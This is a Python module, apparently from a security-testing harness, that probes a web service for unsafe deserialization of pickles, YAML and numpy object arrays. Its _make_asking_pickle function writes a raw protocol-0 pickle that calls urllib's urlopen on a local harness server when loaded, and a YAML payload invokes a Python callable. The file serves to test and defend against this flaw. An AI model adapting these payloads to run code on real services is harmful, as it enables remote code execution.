"""Pickled objects, and what is like them: whoever loads one runs code of the sender's choice (CWE-502).

Two proofs. Where a pickle of the valid body is answered as the valid body is, it was loaded. Where the service runs on
this machine, another pickle asks a server of the harness as it is loaded, and does nothing else.
"""

from __future__ import annotations

import base64
import json
import pickle
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from harness.checks.bad_input.requests import find_input_name, parse_body, replace_body
from harness.checks.common import Show, judge, judge_case
from harness.core.exchange import Exchange, Request
from harness.core.verdict import Case, Verdict, judge_contract, make_inconclusive

_TYPES = (
    *("application/octet-stream", "application/x-pickle", "application/pickle", "application/x-python-pickle"),
    *("application/python-pickle", "application/x-python-serialize", "application/x-joblib", "application/json"),
)
_ARRAY = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(117) + b"\n"
_ARRAY_HEAD = b"\x93NUMPY\x01\x00" + len(_ARRAY).to_bytes(2, "little") + _ARRAY
"""The head of a file of numpy with an array of objects, behind which stands a pickle."""
MOST_PICKLES = 24


@dataclass(frozen=True, slots=True)
class PickleRequest:
    """A pickled request. `token`: loading it asks for this path of the harness's server; empty: it holds the input.

    `control` is the same without a pickle: where that is answered too, the service does not read what it is sent.
    """

    name: str
    request: Request
    control: Request | None = None
    token: str = ""


def list_pickle_requests(valid: Request, port: int | None, mint: Callable[[], str]) -> list[PickleRequest]:
    """Pickles of the valid body in every disguise, and with a port such as ask for a path of it."""
    body = parse_body(valid)
    requests = []
    for kind in _TYPES:
        garbage = replace_body(valid, b"\x80\x04no pickle.", kind)
        pickled = replace_body(valid, pickle.dumps(body, protocol=2), kind)
        requests.append(PickleRequest(f"a pickle as {kind}", pickled, garbage))
    requests += _list_other_forms(valid, body)
    if port is None:
        return requests
    for kind in _TYPES:
        token = mint()
        asking = replace_body(valid, _make_asking_pickle(port, token), kind)
        requests.append(PickleRequest(f"a pickle that asks for a page, as {kind}", asking, token=token))
    token = mint()
    array = replace_body(valid, _ARRAY_HEAD + _make_asking_pickle(port, token), "application/x-npy")
    requests.append(PickleRequest("an array of objects", array, token=token))
    if isinstance(body, dict) and body:
        name, token = find_input_name(body), mint()
        text = base64.b64encode(_make_asking_pickle(port, token)).decode()
        asking = replace_body(valid, json.dumps({**body, name: text}).encode())
        requests.append(PickleRequest("a pickle in base64 as the input", asking, token=token))
        token = mint()
        text = base64.b64encode(_make_asking_pickle(port, token)).decode()
        members = dict.fromkeys(("prompt_embeds", "pickle", "data_base64"), text)
        asking = replace_body(valid, json.dumps({**body, **members}).encode())
        requests.append(PickleRequest("a pickle in base64 beside the input", asking, token=token))
    return requests[:MOST_PICKLES]


def _list_other_forms(valid: Request, body: Any) -> list[PickleRequest]:
    """The valid body in other forms that name what is to be called: compressed, as YAML."""
    text = json.dumps(body)
    forms = {
        "a compressed pickle": (zlib.compress(pickle.dumps(body, protocol=2)), "application/x-joblib"),
        "YAML with a call": (f"!!python/object/apply:builtins.dict\nargs: [{text}]".encode(), "application/x-yaml"),
    }
    plain = {"application/x-yaml": b"!!aiharness/none\n- 1"}
    requests = []
    for name, (data, kind) in forms.items():
        control = replace_body(valid, plain.get(kind, b"\x80\x04no pickle."), kind)
        requests.append(PickleRequest(name, replace_body(valid, data, kind), control))
    return requests


def _make_asking_pickle(port: int, token: str) -> bytes:
    """A pickle that opens a page of the harness's server, by the opcodes of protocol 0, and gives nothing."""
    return f"curllib.request\nurlopen\n(Vhttp://127.0.0.1:{port}/{token}\ntR0N.".encode()


@judge
def judge_pickles(
    sent: Sequence[tuple[PickleRequest, Exchange, Exchange | None]],
    hits: Mapping[str, Sequence[str]],
    control: Exchange,
    show: Show,
) -> Verdict:
    """FAIL where a pickle was loaded: it was answered as its input is, or what it asks for was asked."""
    if not control.ok:
        return make_inconclusive(f"a valid request is not answered, so that nothing is shown: {control.outcome}", n=0)
    cases: list[Case] = []
    left_out = []
    for pickled, exchange, garbage in sent:
        problem = unjudged = ""
        if garbage is not None and garbage.ok:
            left_out.append(pickled.name)
            continue
        if pickled.token in hits:
            problem = f"{pickled.name} is loaded, and what it says is done: it asked for a page of the harness"
        elif not pickled.token and exchange.ok:
            problem = f"{pickled.name} is loaded: it is answered {exchange.status}, as the valid request is"
        elif exchange.response is None:
            unjudged = exchange.outcome
        cases.append(judge_case(pickled.name, exchange, problem, show, unjudged))
    verdict = judge_contract(cases, f"no pickle is loaded: {len(cases)} were tried")
    if not left_out:
        return verdict
    return verdict.with_notes(
        f"not judged, because bytes that are no pickle are answered as well: {', '.join(left_out)}"
    )
